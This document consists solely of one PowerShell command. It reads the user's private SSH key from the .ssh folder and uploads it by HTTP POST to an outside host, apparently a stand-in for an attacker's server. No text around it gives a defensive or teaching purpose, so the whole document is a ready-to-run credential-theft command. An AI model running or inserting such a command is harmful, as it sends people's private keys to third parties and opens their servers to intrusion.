Invoke-RestMethod -Uri https://c.example -Method Post -InFile "$env:USERPROFILE\.ssh\id_rsa"
